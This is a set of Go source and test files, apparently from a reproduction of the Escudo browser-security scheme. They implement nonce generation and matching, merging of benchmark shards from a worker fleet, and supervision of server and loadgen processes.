	"crypto/rand"
	"encoding/binary"
	"fmt"
	"sync"
)

// Source produces unpredictable nonce strings for AC tags.
type Source interface {
	// Next returns a fresh nonce. Nonces are decimal digit strings
	// (the paper's figures use small integers; ours are 64-bit).
	Next() string
}

// CryptoSource draws nonces from crypto/rand. The zero value is ready
// to use; it is safe for concurrent use.
type CryptoSource struct{}

var _ Source = (*CryptoSource)(nil)

// Next returns a cryptographically random 64-bit decimal nonce.
func (CryptoSource) Next() string {
	var buf [8]byte
	if _, err := rand.Read(buf[:]); err != nil {
		// crypto/rand never fails on supported platforms; if it
		// does, refusing to continue is safer than a guessable nonce.
		panic(fmt.Sprintf("nonce: crypto/rand failed: %v", err))
	}
	return fmt.Sprintf("%d", binary.BigEndian.Uint64(buf[:]))
}

// SeqSource produces deterministic nonces 1, 2, 3, ... for tests and
// reproducible examples. It is safe for concurrent use. The zero
// value starts at 1.
type SeqSource struct {
	mu sync.Mutex
	n  uint64
}

var _ Source = (*SeqSource)(nil)

// NewSeqSource returns a sequential source starting at start.
func NewSeqSource(start uint64) *SeqSource {
	if start == 0 {
		start = 1
	}
	return &SeqSource{n: start - 1}
}

// Next returns the next nonce in sequence.
func (s *SeqSource) Next() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.n++
	return fmt.Sprintf("%d", s.n)
}

// Match reports whether a closing tag's nonce authenticates against
// the opening tag's nonce. An AC tag without a nonce (open == "")
// accepts any closer — the application opted out of randomization;
// an AC tag with a nonce requires an exact match (§5: "Escudo ignores
// any </div> tag whose random nonce does not match").
func Match(open, close string) bool {
	if open == "" {
		return true
	}
	return open == close
}
