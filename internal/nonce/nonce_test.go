package nonce

import (
	"sync"
	"testing"
	"testing/quick"
)

func TestCryptoSourceUnique(t *testing.T) {
	var src CryptoSource
	seen := make(map[string]bool)
	for i := 0; i < 1000; i++ {
		n := src.Next()
		if n == "" {
			t.Fatal("empty nonce")
		}
		if seen[n] {
			t.Fatalf("duplicate nonce %q after %d draws", n, i)
		}
		seen[n] = true
	}
}

func TestSeqSource(t *testing.T) {
	s := NewSeqSource(1)
	for i, want := range []string{"1", "2", "3"} {
		if got := s.Next(); got != want {
			t.Errorf("draw %d = %q, want %q", i, got, want)
		}
	}
	s = NewSeqSource(100)
	if got := s.Next(); got != "100" {
		t.Errorf("start 100 first draw = %q", got)
	}
	s = NewSeqSource(0)
	if got := s.Next(); got != "1" {
		t.Errorf("start 0 normalizes to 1, got %q", got)
	}
}

func TestSeqSourceZeroValue(t *testing.T) {
	var s SeqSource
	if got := s.Next(); got != "1" {
		t.Errorf("zero-value SeqSource first draw = %q, want 1", got)
	}
}

func TestSeqSourceConcurrent(t *testing.T) {
	var s SeqSource
	const workers, draws = 8, 100
	var mu sync.Mutex
	seen := make(map[string]bool)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < draws; i++ {
				n := s.Next()
				mu.Lock()
				if seen[n] {
					t.Errorf("duplicate nonce %q", n)
				}
				seen[n] = true
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	if len(seen) != workers*draws {
		t.Errorf("drew %d unique nonces, want %d", len(seen), workers*draws)
	}
}

func TestMatch(t *testing.T) {
	tests := []struct {
		open, close string
		want        bool
	}{
		{"3847", "3847", true},
		{"3847", "3848", false},
		{"3847", "", false},
		{"", "anything", true}, // no nonce on the open tag: opted out
		{"", "", true},
	}
	for _, tt := range tests {
		if got := Match(tt.open, tt.close); got != tt.want {
			t.Errorf("Match(%q, %q) = %v, want %v", tt.open, tt.close, got, tt.want)
		}
	}
}

// Property: a forged closer only matches when it equals the opening
// nonce exactly — there is no partial or prefix acceptance.
func TestMatchExactness(t *testing.T) {
	f := func(open, close string) bool {
		if open == "" {
			return Match(open, close)
		}
		return Match(open, close) == (open == close)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}
