package cluster

import (
	"path/filepath"
	"testing"
	"time"

	"repro/internal/metrics"
	"repro/internal/obs"
)

// histOf buckets a set of durations for test shards.
func histOf(ds ...time.Duration) metrics.Histogram {
	var h metrics.Histogram
	for _, d := range ds {
		h.Observe(d)
	}
	return h
}

func testShard(worker int, p99Low bool) Shard {
	lat := []time.Duration{time.Millisecond, 2 * time.Millisecond, 3 * time.Millisecond}
	if !p99Low {
		lat = append(lat, 80*time.Millisecond)
	}
	return Shard{
		Worker:   worker,
		PID:      1000 + worker,
		Sessions: 2,
		Mode:     "escudo",
		TLS:      true,
		Phases: []ShardPhase{
			{
				Name: "figure4", Tasks: 40, Requests: 120, ReqsPerSec: 600,
				P50Ms: 2, P99Ms: 3, ElapsedMs: 200, Hist: histOf(lat...),
			},
			{
				Name: "attacks", Tasks: 18, Requests: 90, ReqsPerSec: 300,
				P50Ms: 5, P99Ms: 9, ElapsedMs: 300, Hist: histOf(5*time.Millisecond, 9*time.Millisecond),
			},
		},
		Attacks:   &ShardAttacks{Total: 18, Neutralized: 18, MatchMemory: true},
		Client:    ClientJSON{Requests: 210, NewConns: 10, ReusedConns: 200},
		Version:   obs.Version(),
		ElapsedMs: 500,
	}
}

func TestMergeShards(t *testing.T) {
	a := testShard(0, true)
	b := testShard(1, false)
	rep, err := MergeShards([]Shard{a, b})
	if err != nil {
		t.Fatalf("MergeShards: %v", err)
	}
	if rep.Workers != 2 || !rep.TLS || rep.SessionsPerWorker != 2 {
		t.Fatalf("header fields wrong: %+v", rep)
	}
	if len(rep.Phases) != 2 || rep.Phases[0].Name != "figure4" || rep.Phases[1].Name != "attacks" {
		t.Fatalf("phase order lost: %+v", rep.Phases)
	}
	fig := rep.Phases[0]
	if fig.Tasks != 80 || fig.Requests != 240 {
		t.Fatalf("sums wrong: %+v", fig)
	}
	if fig.ReqsPerSec != 1200 {
		t.Fatalf("aggregate reqs/s = %v, want 1200", fig.ReqsPerSec)
	}
	// Merged p99 must reflect worker 1's slow tail (80ms), which no
	// average of per-worker percentiles would reveal.
	if fig.P99Ms < 70 {
		t.Fatalf("merged p99 %.1f ms misses the slow worker's tail", fig.P99Ms)
	}
	if fig.P50Ms > 5 {
		t.Fatalf("merged p50 %.1f ms inflated", fig.P50Ms)
	}
	if rep.AttacksTotal != 18 || rep.AttacksNeutralized != 18 || !rep.AttacksMatchMemory {
		t.Fatalf("attack tally wrong: %+v", rep)
	}
	if rep.Client.Requests != 420 || rep.Client.ReusedConns != 400 {
		t.Fatalf("client sums wrong: %+v", rep.Client)
	}
	if len(rep.PerWorker) != 2 || rep.PerWorker[0].PID != 1000 || rep.PerWorker[1].AttacksNeutralized != 18 {
		t.Fatalf("per-worker rows wrong: %+v", rep.PerWorker)
	}
}

func TestMergeShardsWeakestAttackTally(t *testing.T) {
	a := testShard(0, true)
	b := testShard(1, true)
	b.Attacks = &ShardAttacks{Total: 18, Neutralized: 17, Succeeded: 1, MatchMemory: false}
	rep, err := MergeShards([]Shard{a, b})
	if err != nil {
		t.Fatalf("MergeShards: %v", err)
	}
	if rep.AttacksNeutralized != 17 || rep.AttacksSucceeded != 1 || rep.AttacksMatchMemory {
		t.Fatalf("merged tally must take the weakest worker: %+v", rep)
	}
}

func TestMergeShardsRejectsMixedTLS(t *testing.T) {
	a := testShard(0, true)
	b := testShard(1, true)
	b.TLS = false
	if _, err := MergeShards([]Shard{a, b}); err == nil {
		t.Fatal("mixed TLS shards merged silently")
	}
}

func TestMergeShardsRejectsMixedBuilds(t *testing.T) {
	a := testShard(0, true)
	b := testShard(1, true)
	b.Version.Go = "go0.0-other"
	if _, err := MergeShards([]Shard{a, b}); err == nil {
		t.Fatal("mismatched build stamps merged silently")
	}

	// A pre-observability shard (zero stamp) must still merge: old
	// reports keep working, and the fleet stamp comes from the shard
	// that has one.
	c := testShard(2, true)
	c.Version = obs.Stamp{}
	rep, err := MergeShards([]Shard{c, a})
	if err != nil {
		t.Fatalf("zero-stamp shard refused: %v", err)
	}
	if !obs.SameBinary(rep.Version, a.Version) {
		t.Fatalf("fleet stamp not adopted from the stamped shard: %+v", rep.Version)
	}
}

func TestMergeShardsObs(t *testing.T) {
	a := testShard(0, true)
	b := testShard(1, true)
	a.Obs = &obs.SamplerStats{
		Samples:        10,
		Goroutines:     obs.SeriesInt{First: 20, Last: 22, Min: 18, Max: 30},
		HeapAllocBytes: obs.SeriesInt{First: 1000, Last: 1200, Min: 900, Max: 1500},
		HeapMonotonic:  false,
		NumGC:          4,
	}
	b.Obs = &obs.SamplerStats{
		Samples:        12,
		Goroutines:     obs.SeriesInt{First: 25, Last: 24, Min: 21, Max: 40},
		HeapAllocBytes: obs.SeriesInt{First: 2000, Last: 2500, Min: 2000, Max: 2600},
		HeapMonotonic:  true,
		NumGC:          6,
	}
	rep, err := MergeShards([]Shard{a, b})
	if err != nil {
		t.Fatalf("MergeShards: %v", err)
	}
	if rep.Obs == nil {
		t.Fatal("merged report lost the obs section")
	}
	if rep.Obs.Samples != 22 || rep.Obs.NumGC != 10 {
		t.Fatalf("obs scalar sums wrong: %+v", rep.Obs)
	}
	if rep.Obs.Goroutines.Max != 70 || rep.Obs.HeapAllocBytes.Last != 3700 {
		t.Fatalf("obs series sums wrong: %+v", rep.Obs)
	}
	if rep.Obs.HeapMonotonic {
		t.Fatal("one worker's heap dipped; the fleet flag must be false")
	}

	// One-sided: a fleet where only some workers sample still reports.
	c := testShard(2, true)
	rep, err = MergeShards([]Shard{c, a})
	if err != nil {
		t.Fatalf("MergeShards: %v", err)
	}
	if rep.Obs == nil || rep.Obs.Samples != 10 {
		t.Fatalf("partial obs fleet mis-merged: %+v", rep.Obs)
	}
}

func TestMergeShardsEmpty(t *testing.T) {
	if _, err := MergeShards(nil); err == nil {
		t.Fatal("empty merge succeeded")
	}
}

func TestShardFileRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "shard.json")
	want := testShard(3, false)
	if err := want.WriteFile(path); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	got, err := ReadShard(path)
	if err != nil {
		t.Fatalf("ReadShard: %v", err)
	}
	if got.Worker != 3 || got.PID != want.PID || len(got.Phases) != 2 ||
		got.Phases[0].Hist.Total() != want.Phases[0].Hist.Total() {
		t.Fatalf("round trip diverged: %+v", got)
	}
	if _, err := ReadShard(filepath.Join(t.TempDir(), "missing.json")); err == nil {
		t.Fatal("ReadShard on missing file succeeded")
	}
}
