package cluster

import (
	"context"
	"strings"
	"syscall"
	"testing"
	"time"
)

func TestProcCleanExit(t *testing.T) {
	p, err := StartProc(Spec{Name: "echoer", Path: "sh", Args: []string{"-c", "echo out-line; echo err-line >&2"}})
	if err != nil {
		t.Fatalf("StartProc: %v", err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	if err := p.Wait(ctx); err != nil {
		t.Fatalf("Wait: %v", err)
	}
	if p.Alive() {
		t.Fatal("Alive after exit")
	}
	tail := p.LogTail()
	if !strings.Contains(tail, "out-line") || !strings.Contains(tail, "err-line") {
		t.Fatalf("log tail missing interleaved output: %q", tail)
	}
}

func TestProcCrashCapturesTail(t *testing.T) {
	p, err := StartProc(Spec{Name: "crasher", Path: "sh", Args: []string{"-c", "echo last words before dying >&2; exit 3"}})
	if err != nil {
		t.Fatalf("StartProc: %v", err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	werr := p.Wait(ctx)
	if werr == nil {
		t.Fatal("Wait returned nil for exit 3")
	}
	if !strings.Contains(p.LogTail(), "last words before dying") {
		t.Fatalf("log tail lost the crash output: %q", p.LogTail())
	}
	perr := procError(p, "failed", werr)
	if !strings.Contains(perr.Error(), "last words before dying") || !strings.Contains(perr.Error(), "crasher") {
		t.Fatalf("procError not loud enough: %v", perr)
	}
}

func TestProcStopGraceful(t *testing.T) {
	// A process that honors SIGTERM exits cleanly within the grace.
	p, err := StartProc(Spec{Name: "trapper", Path: "sh",
		Args: []string{"-c", `trap 'echo bye; exit 0' TERM; while :; do sleep 0.05; done`}})
	if err != nil {
		t.Fatalf("StartProc: %v", err)
	}
	time.Sleep(100 * time.Millisecond) // let the trap install
	if err := p.Stop(5 * time.Second); err != nil {
		t.Fatalf("Stop: %v (tail %q)", err, p.LogTail())
	}
	if !strings.Contains(p.LogTail(), "bye") {
		t.Fatalf("trap did not run: %q", p.LogTail())
	}
}

func TestProcStopEscalates(t *testing.T) {
	// A process that ignores SIGTERM is killed after the grace, and
	// Stop says so.
	p, err := StartProc(Spec{Name: "stubborn", Path: "sh",
		Args: []string{"-c", `trap '' TERM; while :; do sleep 0.05; done`}})
	if err != nil {
		t.Fatalf("StartProc: %v", err)
	}
	time.Sleep(100 * time.Millisecond)
	err = p.Stop(200 * time.Millisecond)
	if err == nil || !strings.Contains(err.Error(), "did not exit") {
		t.Fatalf("Stop = %v, want escalation error", err)
	}
	if p.Alive() {
		t.Fatal("process survived the escalation")
	}
}

func TestProcSignalDelivery(t *testing.T) {
	p, err := StartProc(Spec{Name: "sig", Path: "sh",
		Args: []string{"-c", `trap 'exit 7' USR1; while :; do sleep 0.05; done`}})
	if err != nil {
		t.Fatalf("StartProc: %v", err)
	}
	time.Sleep(100 * time.Millisecond)
	if err := p.Signal(syscall.SIGUSR1); err != nil {
		t.Fatalf("Signal: %v", err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	if err := p.Wait(ctx); err == nil || !strings.Contains(err.Error(), "7") {
		t.Fatalf("Wait = %v, want exit status 7", err)
	}
}

func TestTailBufferBounds(t *testing.T) {
	tb := newTailBuffer(16)
	tb.Write([]byte("0123456789"))       //nolint:errcheck
	tb.Write([]byte("abcdefghijklmnop")) //nolint:errcheck
	got := tb.String()
	if !strings.HasPrefix(got, "…") {
		t.Fatalf("truncated buffer not marked: %q", got)
	}
	if !strings.HasSuffix(got, "abcdefghijklmnop") {
		t.Fatalf("tail lost the newest bytes: %q", got)
	}
	if len(got) > len("…")+16 {
		t.Fatalf("buffer exceeded its cap: %d bytes", len(got))
	}
}
