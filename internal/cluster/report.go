package cluster

import (
	"encoding/json"
	"fmt"
	"os"

	"repro/internal/httpd"
	"repro/internal/metrics"
	"repro/internal/obs"
	"repro/internal/slo"
)

// ShardPhase is one measured phase inside a worker's BENCH shard.
// Point percentiles describe the worker alone; Hist is the bucketed
// form the supervisor merges for fleet-wide percentiles.
type ShardPhase struct {
	Name      string  `json:"name"`
	Tasks     uint64  `json:"tasks"`
	Errors    int     `json:"errors"`
	P50Ms     float64 `json:"p50_ms"`
	P99Ms     float64 `json:"p99_ms"`
	MeanMs    float64 `json:"mean_ms"`
	ElapsedMs float64 `json:"elapsed_ms"`
	// Requests counts client-side round trips during the phase (the
	// worker cannot see the remote gateway's counters, so it counts
	// its own wire traffic).
	Requests   uint64            `json:"requests"`
	ReqsPerSec float64           `json:"reqs_per_sec"`
	Hist       metrics.Histogram `json:"latency_hist"`
}

// ShardAttacks is a worker's §6.4 attack replay tally.
type ShardAttacks struct {
	Total       int `json:"total"`
	Neutralized int `json:"neutralized"`
	Succeeded   int `json:"succeeded"`
	// MatchMemory reports the worker's runtime cross-check: every
	// verdict over sockets equaled the in-memory verdict.
	MatchMemory bool `json:"match_memory"`
}

// ClientJSON is a transport's connection accounting. Proto names the
// negotiated wire protocol of the counted traffic ("h2"/"h1", "" when
// nothing was counted); H2Requests is the raw count behind it.
type ClientJSON struct {
	Requests    uint64  `json:"requests"`
	NewConns    uint64  `json:"new_conns"`
	ReusedConns uint64  `json:"reused_conns"`
	ReuseRate   float64 `json:"reuse_rate"`
	H2Requests  uint64  `json:"h2_requests"`
	Proto       string  `json:"proto,omitempty"`
}

// FromClientStats converts transport counters to the JSON shape.
func FromClientStats(s httpd.ClientStats) ClientJSON {
	return ClientJSON{
		Requests:    s.Requests,
		NewConns:    s.NewConns,
		ReusedConns: s.ReusedConns,
		ReuseRate:   s.ReuseRate(),
		H2Requests:  s.H2Requests,
		Proto:       s.Proto(),
	}
}

// Shard is the BENCH fragment one loadgen worker process writes; the
// supervisor merges the fleet's shards into a Report.
type Shard struct {
	Worker   int           `json:"worker"`
	PID      int           `json:"pid"`
	Sessions int           `json:"sessions"`
	Mode     string        `json:"mode"`
	TLS      bool          `json:"tls"`
	Phases   []ShardPhase  `json:"phases"`
	Attacks  *ShardAttacks `json:"attacks,omitempty"`
	// Client is the worker's main-gateway transport: the long-lived
	// connection pool whose reuse rate the cluster CI gate asserts.
	Client ClientJSON `json:"client"`
	// AttackClient accounts the attack-replay wire traffic separately:
	// each §6.4 environment is a throwaway substrate behind its own
	// ephemeral gateway and transport, so its connections are new by
	// design and would drag Client's reuse rate if folded in.
	AttackClient *ClientJSON `json:"attack_client,omitempty"`
	// Version stamps the worker binary; the merge refuses shards from
	// mismatched builds, since their numbers are not comparable.
	Version obs.Stamp `json:"version"`
	// Obs is the worker's runtime sampler summary (goroutines, heap,
	// GC) over its run; absent when the worker did not sample.
	Obs *obs.SamplerStats `json:"obs,omitempty"`
	// SLO is the worker's open-loop section (written by -openloop
	// workers): mergeable histograms the supervisor folds into the
	// fleet-wide slo view.
	SLO       *slo.Result `json:"slo,omitempty"`
	ElapsedMs float64     `json:"elapsed_ms"`
}

// WriteFile serializes the shard to path.
func (s Shard) WriteFile(path string) error {
	data, err := json.MarshalIndent(s, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(data, '\n'), 0o644)
}

// ReadShard loads a worker's shard file.
func ReadShard(path string) (Shard, error) {
	var s Shard
	data, err := os.ReadFile(path)
	if err != nil {
		return s, fmt.Errorf("cluster: reading shard: %w", err)
	}
	if err := json.Unmarshal(data, &s); err != nil {
		return s, fmt.Errorf("cluster: parsing shard %s: %w", path, err)
	}
	return s, nil
}

// MergedPhase is one phase aggregated across all workers: summed
// throughput, histogram-merged percentiles.
type MergedPhase struct {
	Name   string `json:"name"`
	Tasks  uint64 `json:"tasks"`
	Errors int    `json:"errors"`
	// Requests and ReqsPerSec sum the workers (the phases run
	// concurrently, so summed rates are the fleet's aggregate
	// throughput against the shared server process).
	Requests   uint64  `json:"requests"`
	ReqsPerSec float64 `json:"reqs_per_sec"`
	// P50Ms/P99Ms come from the merged latency histograms — the only
	// honest way to combine percentiles across processes.
	P50Ms     float64 `json:"p50_ms"`
	P99Ms     float64 `json:"p99_ms"`
	ElapsedMs float64 `json:"elapsed_ms"`
}

// WorkerRow is one worker's line in the per-process breakdown.
type WorkerRow struct {
	Worker             int     `json:"worker"`
	PID                int     `json:"pid"`
	Sessions           int     `json:"sessions"`
	Tasks              uint64  `json:"tasks"`
	Errors             int     `json:"errors"`
	ReqsPerSec         float64 `json:"reqs_per_sec"`
	P50Ms              float64 `json:"p50_ms"`
	P99Ms              float64 `json:"p99_ms"`
	AttacksNeutralized int     `json:"attacks_neutralized"`
}

// ServerStats is what the serve-only process writes on graceful
// shutdown — the gateway-side view of the run.
type ServerStats struct {
	Addr    string      `json:"addr"`
	TLS     bool        `json:"tls"`
	Origins int         `json:"origins"`
	Gateway httpd.Stats `json:"gateway"`
	// Version stamps the server binary, cross-checked against the
	// workers' stamps by the supervisor.
	Version obs.Stamp `json:"version"`
	// Obs is the server process's runtime sampler summary.
	Obs *obs.SamplerStats `json:"obs,omitempty"`
}

// Report is the merged `cluster` section of BENCH_engine.json.
type Report struct {
	Workers           int    `json:"workers"`
	SessionsPerWorker int    `json:"sessions_per_worker"`
	TLS               bool   `json:"tls"`
	Addr              string `json:"addr"`
	// ReadyMs is how long the server took from spawn to a ready
	// /healthz; StartingPolls counts the "starting" (503) responses
	// the readiness poll observed first.
	ReadyMs       float64       `json:"ready_ms"`
	StartingPolls int           `json:"starting_polls"`
	Phases        []MergedPhase `json:"phases"`
	PerWorker     []WorkerRow   `json:"per_worker"`
	// Attack tally: Total is the corpus size (identical across
	// workers), Neutralized the minimum across workers — 18 only when
	// every process neutralized all 18.
	AttacksTotal       int  `json:"attacks_total"`
	AttacksNeutralized int  `json:"attacks_neutralized"`
	AttacksSucceeded   int  `json:"attacks_succeeded"`
	AttacksMatchMemory bool `json:"attacks_match_memory"`
	// Client sums the workers' main-gateway connection accounting.
	// Attack-environment wire traffic is kept apart in AttackClient:
	// those gateways are per-attack throwaways whose connections can
	// never be reused, so mixing them in would understate how well the
	// long-lived gateway path multiplexes.
	Client ClientJSON `json:"client"`
	// AttackClient sums the workers' attack-replay wire accounting
	// (absent when no worker replayed attacks).
	AttackClient *ClientJSON `json:"attack_client,omitempty"`
	// Server is the gateway-side stats written at graceful shutdown
	// (absent when the server stats file was not configured).
	Server *ServerStats `json:"server,omitempty"`
	// Version is the fleet's common build stamp (all shards must agree
	// on module version and Go toolchain for their numbers to merge).
	Version obs.Stamp `json:"version"`
	// Obs merges the workers' runtime sampler summaries: goroutine and
	// heap series are summed across processes, GC totals accumulated,
	// and HeapMonotonic holds only if every worker's heap grew without
	// ever dipping. Absent when no worker sampled.
	Obs *obs.SamplerStats `json:"obs,omitempty"`
	// SLO merges the workers' open-loop sections: counts and histogram
	// buckets sum, quantiles recomputed from the merged buckets, the
	// leak verdict ORed — one leaking worker fails the fleet gate.
	// Absent when no worker ran -openloop.
	SLO       *slo.Result `json:"slo,omitempty"`
	ElapsedMs float64     `json:"elapsed_ms"`
}

// MergeShards folds the workers' shards into the cluster report
// skeleton (supervisor-level fields — Addr, ReadyMs, Server — are
// filled by the caller).
func MergeShards(shards []Shard) (*Report, error) {
	if len(shards) == 0 {
		return nil, fmt.Errorf("cluster: no shards to merge")
	}
	rep := &Report{
		Workers:            len(shards),
		SessionsPerWorker:  shards[0].Sessions,
		TLS:                shards[0].TLS,
		AttacksMatchMemory: true,
	}

	type acc struct {
		phase MergedPhase
		hist  metrics.Histogram
	}
	var order []string
	accs := map[string]*acc{}
	var clientSum, attackSum httpd.ClientStats
	haveAttacks := false
	haveAttackClient := false

	rep.Version = shards[0].Version
	var obsAcc *obs.SamplerStats

	for _, sh := range shards {
		if sh.TLS != rep.TLS {
			return nil, fmt.Errorf("cluster: worker %d TLS=%v disagrees with worker %d TLS=%v",
				sh.Worker, sh.TLS, shards[0].Worker, rep.TLS)
		}
		// Pre-observability shards carry a zero stamp; those are merged
		// leniently so old reports keep working. Any two non-zero
		// stamps must come from the same build.
		if sh.Version != (obs.Stamp{}) && rep.Version != (obs.Stamp{}) && !obs.SameBinary(sh.Version, rep.Version) {
			return nil, fmt.Errorf("cluster: worker %d runs %s/%s, worker %d runs %s/%s — refusing to merge mismatched builds",
				sh.Worker, sh.Version.Module, sh.Version.Go, shards[0].Worker, rep.Version.Module, rep.Version.Go)
		}
		if rep.Version == (obs.Stamp{}) {
			rep.Version = sh.Version
		}
		if sh.Obs != nil {
			if obsAcc == nil {
				cp := *sh.Obs
				obsAcc = &cp
			} else {
				obsAcc.Merge(*sh.Obs)
			}
		}
		if sh.SLO != nil {
			if rep.SLO == nil {
				rep.SLO = &slo.Result{}
			}
			rep.SLO.Merge(*sh.SLO)
		}
		for _, ph := range sh.Phases {
			a, ok := accs[ph.Name]
			if !ok {
				a = &acc{phase: MergedPhase{Name: ph.Name}}
				accs[ph.Name] = a
				order = append(order, ph.Name)
			}
			a.phase.Tasks += ph.Tasks
			a.phase.Errors += ph.Errors
			a.phase.Requests += ph.Requests
			a.phase.ReqsPerSec += ph.ReqsPerSec
			if ph.ElapsedMs > a.phase.ElapsedMs {
				a.phase.ElapsedMs = ph.ElapsedMs
			}
			a.hist.Merge(ph.Hist)
		}

		row := WorkerRow{
			Worker:   sh.Worker,
			PID:      sh.PID,
			Sessions: sh.Sessions,
		}
		for _, ph := range sh.Phases {
			row.Tasks += ph.Tasks
			row.Errors += ph.Errors
			row.ReqsPerSec += ph.ReqsPerSec
			if ph.P99Ms > row.P99Ms {
				row.P99Ms = ph.P99Ms
				row.P50Ms = ph.P50Ms
			}
		}
		if sh.Attacks != nil {
			haveAttacks = true
			row.AttacksNeutralized = sh.Attacks.Neutralized
			if rep.AttacksTotal == 0 {
				rep.AttacksTotal = sh.Attacks.Total
				rep.AttacksNeutralized = sh.Attacks.Neutralized
			} else {
				if sh.Attacks.Total != rep.AttacksTotal {
					return nil, fmt.Errorf("cluster: worker %d ran %d attacks, others %d",
						sh.Worker, sh.Attacks.Total, rep.AttacksTotal)
				}
				if sh.Attacks.Neutralized < rep.AttacksNeutralized {
					rep.AttacksNeutralized = sh.Attacks.Neutralized
				}
			}
			if sh.Attacks.Succeeded > rep.AttacksSucceeded {
				rep.AttacksSucceeded = sh.Attacks.Succeeded
			}
			rep.AttacksMatchMemory = rep.AttacksMatchMemory && sh.Attacks.MatchMemory
		}
		clientSum = clientSum.Add(httpd.ClientStats{
			Requests:    sh.Client.Requests,
			NewConns:    sh.Client.NewConns,
			ReusedConns: sh.Client.ReusedConns,
			H2Requests:  sh.Client.H2Requests,
		})
		if sh.AttackClient != nil {
			haveAttackClient = true
			attackSum = attackSum.Add(httpd.ClientStats{
				Requests:    sh.AttackClient.Requests,
				NewConns:    sh.AttackClient.NewConns,
				ReusedConns: sh.AttackClient.ReusedConns,
				H2Requests:  sh.AttackClient.H2Requests,
			})
		}
		if sh.ElapsedMs > rep.ElapsedMs {
			rep.ElapsedMs = sh.ElapsedMs
		}
		rep.PerWorker = append(rep.PerWorker, row)
	}

	for _, name := range order {
		a := accs[name]
		a.phase.P50Ms = float64(a.hist.Quantile(50).Nanoseconds()) / 1e6
		a.phase.P99Ms = float64(a.hist.Quantile(99).Nanoseconds()) / 1e6
		rep.Phases = append(rep.Phases, a.phase)
	}
	if !haveAttacks {
		rep.AttacksMatchMemory = false
	}
	rep.Client = FromClientStats(clientSum)
	if haveAttackClient {
		ac := FromClientStats(attackSum)
		rep.AttackClient = &ac
	}
	rep.Obs = obsAcc
	if rep.SLO != nil {
		rep.SLO.Finalize()
	}
	return rep, nil
}
