package cluster

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"strings"
	"time"

	"repro/internal/httpd"
	"repro/internal/obs"
)

// Config configures a Supervisor run.
type Config struct {
	// Server is the gateway process (escudo-serve -serve-only ...).
	Server Spec
	// NumWorkers is the loadgen fleet size.
	NumWorkers int
	// Worker builds worker i's Spec once the server's address is
	// known — the gateway binds an ephemeral port, so worker argv
	// cannot be fixed up front.
	Worker func(i int, addr string) Spec
	// AddrFile is where the server process writes its listener
	// address; the supervisor polls it into existence.
	AddrFile string
	// CAFile, when non-empty, is the server CA certificate bundle:
	// admin probes run over https trusting it (and its presence is
	// how the supervisor knows the cluster is TLS).
	CAFile string
	// ShardFiles are the per-worker BENCH shard paths, one per
	// worker, read after a clean run.
	ShardFiles []string
	// ServerStatsFile, when non-empty, is read after the server's
	// graceful exit and embedded in the report.
	ServerStatsFile string
	// ReadyTimeout bounds spawn-to-ready (default 60s);
	// ShutdownGrace bounds SIGTERM-to-exit (default 15s).
	ReadyTimeout  time.Duration
	ShutdownGrace time.Duration
	// ExpectOrigins (>0) cross-checks the mounted-origin count on
	// /metricsz; ExpectPolicies (>0) the policy-document count on
	// /policyz — both before any load is generated.
	ExpectOrigins  int
	ExpectPolicies int
	// Logf receives progress lines (nil discards them).
	Logf func(format string, args ...any)
}

// Supervisor orchestrates one cluster run.
type Supervisor struct {
	cfg Config
}

// NewSupervisor validates the configuration.
func NewSupervisor(cfg Config) (*Supervisor, error) {
	if cfg.Server.Path == "" {
		return nil, errors.New("cluster: Config.Server.Path is required")
	}
	if cfg.NumWorkers < 1 {
		return nil, fmt.Errorf("cluster: NumWorkers must be >= 1, got %d", cfg.NumWorkers)
	}
	if cfg.Worker == nil {
		return nil, errors.New("cluster: Config.Worker factory is required")
	}
	if cfg.AddrFile == "" {
		return nil, errors.New("cluster: Config.AddrFile is required")
	}
	if len(cfg.ShardFiles) != cfg.NumWorkers {
		return nil, fmt.Errorf("cluster: %d shard files for %d workers", len(cfg.ShardFiles), cfg.NumWorkers)
	}
	if cfg.ReadyTimeout <= 0 {
		cfg.ReadyTimeout = 60 * time.Second
	}
	if cfg.ShutdownGrace <= 0 {
		cfg.ShutdownGrace = 15 * time.Second
	}
	if cfg.Logf == nil {
		cfg.Logf = func(string, ...any) {}
	}
	return &Supervisor{cfg: cfg}, nil
}

// adminClient builds the probe client: https trusting the CA file
// when the cluster is TLS, plain http otherwise.
func (s *Supervisor) adminClient() (*http.Client, string, error) {
	if s.cfg.CAFile == "" {
		return &http.Client{Timeout: 5 * time.Second}, "http", nil
	}
	pool, err := httpd.LoadCAPool(s.cfg.CAFile)
	if err != nil {
		return nil, "", err
	}
	client := &http.Client{
		Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool, MinVersion: tls.VersionTLS12}},
		Timeout:   5 * time.Second,
	}
	return client, "https", nil
}

// procError formats a failed process's identity, exit error, and
// captured log tail into one loud error.
func procError(p *Proc, context string, exitErr error) error {
	tail := strings.TrimSpace(p.LogTail())
	if tail == "" {
		tail = "(no output captured)"
	}
	return fmt.Errorf("cluster: %s %s: %v\n--- %s log tail ---\n%s",
		p.Spec.Name, context, exitErr, p.Spec.Name, tail)
}

// waitForAddr polls the address file the server writes after binding.
func (s *Supervisor) waitForAddr(ctx context.Context, server *Proc, deadline time.Time) (string, error) {
	for {
		if data, err := os.ReadFile(s.cfg.AddrFile); err == nil {
			if addr := strings.TrimSpace(string(data)); addr != "" {
				return addr, nil
			}
		}
		if !server.Alive() {
			return "", procError(server, "exited before publishing its address", server.ExitErr())
		}
		if time.Now().After(deadline) {
			return "", fmt.Errorf("cluster: server did not publish an address within %v", s.cfg.ReadyTimeout)
		}
		select {
		case <-ctx.Done():
			return "", ctx.Err()
		case <-time.After(20 * time.Millisecond):
		}
	}
}

